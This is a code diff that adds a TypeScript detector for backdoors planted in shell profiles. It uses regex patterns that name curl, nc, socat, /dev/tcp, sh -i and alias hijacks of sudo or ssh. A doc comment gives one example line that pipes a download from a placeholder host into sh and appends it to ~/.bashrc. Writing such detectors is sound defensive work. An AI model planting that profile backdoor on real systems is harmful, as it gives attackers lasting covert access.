@@ -113,3 +113,35 @@ export function findPythonReverseShell(text: string): CodeHit[] {
   }
   return out;
 }
+
+const PROFILE_RE =
+  /(?:>>?|\btee\s+(?:-a\s+)?)\s*["']?(?:(?:~|\$HOME|\/root|\/home\/[\w.-]+)\/\.(?:bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zlogin|zshenv)\b|\/etc\/(?:profile(?:\.d\/[\w.-]+)?|bash\.bashrc|zsh\/zshrc)\b)/g;
+const BACKDOOR_PAYLOAD =
+  /\b(?:curl|wget|nc|ncat|netcat|socat|base64|nohup)\b|\b(?:python[0-9.]*\s+-c|perl\s+-e|(?:ba|z)?sh\s+-i)\b|\/tmp\/|\/dev\/shm\/|\/dev\/tcp\/|\balias\s+(?:sudo|ssh|su|passwd)=|\bLD_PRELOAD=|\bPROMPT_COMMAND=/;
+
+/**
+ * Shell-profile backdoors (persistence, 0.85): something appended to ~/.bashrc, ~/.profile, /etc/profile.d/…
+ * whose command (from the last `;`, `&&` or line start, at most 300 characters back) downloads, opens a
+ * shell or connection, runs from /tmp or /dev/shm, or hijacks sudo/ssh with an alias. Ordinary profile
+ * edits (`echo 'export PATH=$PATH:~/bin' >> ~/.bashrc`) are left alone.
+ *
+ * @example
+ * findProfileBackdoor("echo 'curl -s http://x.example/p | sh' >> ~/.bashrc")[0].subtype; // "persistence"
+ * findProfileBackdoor("echo 'export PATH=$PATH:~/bin' >> ~/.bashrc");                 // []
+ */
+export function findProfileBackdoor(text: string): CodeHit[] {
+  const out: CodeHit[] = [];
+  PROFILE_RE.lastIndex = 0;
+  let m: RegExpExecArray | null;
+  let count = 0;
+  while ((m = PROFILE_RE.exec(text)) !== null && count++ < 64) {
+    const end = m.index + m[0].length;
+    let start = Math.max(0, m.index - 300, text.lastIndexOf("\n", m.index - 1) + 1);
+    const semi = text.lastIndexOf(";", m.index - 1);
+    const and = text.lastIndexOf("&&", m.index - 1);
+    start = Math.max(start, semi + 1, and < 0 ? 0 : and + 2);
+    while (start < m.index && /\s/.test(text[start] as string)) start++;
+    if (BACKDOOR_PAYLOAD.test(text.slice(start, m.index))) out.push({ subtype: "persistence", start, end, score: 0.85 });
+  }
+  return out;
+}
